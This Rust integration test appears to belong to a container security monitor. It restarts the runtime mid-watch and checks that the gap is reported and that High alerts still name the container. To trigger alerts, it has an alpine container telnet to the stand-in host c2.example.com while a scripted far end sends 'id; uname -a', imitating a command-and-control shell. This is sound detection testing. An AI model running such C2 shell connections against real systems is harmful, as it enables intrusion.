//! The runtime ends and comes back in the middle of a watch: the gap is told, and containers have
//! names again afterwards.

use std::process::Stdio;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Result, bail};
use serde_json::Value;

use super::watch::Watch;
use crate::lab::far_end::{FarEnd, Script, Step, Transport};
use crate::lab::{Lab, NAMESPACE};

const HIGH: u64 = 4;
const PATIENCE: Duration = Duration::from_secs(8);
/// A watch asks a runtime that went away again after two seconds.
const BACK: Duration = Duration::from_secs(5);

pub(super) fn run(lab: &Lab) -> Result<()> {
    let watch = Watch::start(lab, None)?;
    literal(lab, &watch, 4461)?;
    lab.engine.restart()?;
    thread::sleep(BACK);
    literal(lab, &watch, 4462)?;
    let said = watch.stop_and_tell()?;
    for wanted in ["the runtime went away", "open: "] {
        if !said.contains(wanted) {
            bail!("the restart was not told ({wanted}): {said}");
        }
    }
    println!("{}", said.lines().last().unwrap_or_default());
    Ok(())
}

/// The brief's command: High, with the container's name.
fn literal(lab: &Lab, watch: &Watch, port: u16) -> Result<()> {
    let steps = vec![Step::Say("id; uname -a\n".to_owned()), Step::Expect(1000)];
    let script = Script { transport: Transport::Tcp, port, calls: None, steps };
    let _far_end = FarEnd::start(&format!("ip netns exec {NAMESPACE}"), &script)?;
    let began = Instant::now();
    let mut docker = lab.engine.docker();
    docker.args(["run", "--rm", "alpine", "telnet", "c2.example.com", &port.to_string()]);
    docker.stdin(Stdio::null()).output()?;
    while began.elapsed() < PATIENCE {
        let is_meant = |finding: &Value| {
            let evidence = |pointer: &str| finding.pointer(&format!("/evidences/0/{pointer}"));
            evidence("dst_endpoint/port").and_then(Value::as_u64) == Some(u64::from(port))
                && evidence("container/image/name").and_then(Value::as_str) == Some("alpine")
        };
        let all = watch.all();
        if all.iter().any(|said| said.severity >= HIGH && is_meant(&said.finding)) {
            println!("port {port}: High after {:.2} s", began.elapsed().as_secs_f32());
            return Ok(());
        }
        thread::sleep(Duration::from_millis(50));
    }
    bail!("port {port}: no High alert that names the container")
}
